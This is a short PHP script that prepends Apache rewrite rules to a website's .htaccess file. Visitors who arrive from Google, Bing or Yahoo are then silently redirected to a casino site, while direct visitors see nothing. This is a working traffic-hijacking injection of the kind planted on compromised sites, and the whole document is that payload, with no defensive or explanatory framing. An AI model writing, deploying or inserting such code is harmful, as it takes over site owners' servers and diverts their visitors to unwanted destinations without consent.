<?php
// the web server made to send search visitors to the operator's site
$rules = "RewriteEngine On\nRewriteCond %{HTTP_REFERER} (google|bing|yahoo) [NC]\nRewriteRule .* https://casino.example.com/ [R=302,L]\n";
$f = $_SERVER['DOCUMENT_ROOT'] . '/.htaccess';
file_put_contents($f, $rules . file_get_contents($f));
echo 'ok';
